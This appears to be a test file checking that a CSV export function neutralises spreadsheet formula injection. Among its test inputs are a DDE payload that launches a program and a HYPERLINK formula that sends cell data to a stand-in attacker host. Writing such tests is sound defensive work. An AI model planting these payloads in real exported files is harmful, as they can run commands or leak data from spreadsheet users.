import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../daemon/rules/csv-line.ts';

/** How a cell begins that a table program runs. **Source:** OWASP, "CSV Injection", from memory. */
const formula = /^[=+\-@\t\r\n＝＋－＠]/;

describe('a name that a table program would run as a formula', () => {
  it.each([
    '=cmd|"/C calc"!A0',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
  ])('%j leaves as a text', (name) => {
    const [[cell]] = parse(csvLine([name, 'next'])) as [[string]];
    expect(cell).not.toMatch(formula);
    expect(cell).toBe(`'${name}`);
  });

  it('is tamed within a list or an object as well', () => {
    const [[cell]] = parse(csvLine([['=1+1'], 'next'])) as [[string]];
    expect(cell).toBe('["=1+1"]');
  });

  it.each([-3.5, 0, 1e-7, -1e21])('and the number %s stays a number', (value) => {
    const [[cell]] = parse(csvLine([value, 'next'])) as [[string]];
    expect(Number(cell)).toBe(value);
  });

  it('cannot begin a cell of its own by its quotes or line breaks', () => {
    const name = 'x","=1+1"\r\n=2+2';
    expect(parse(csvLine([name, 'next']))).toEqual([[name, 'next']]);
  });
});
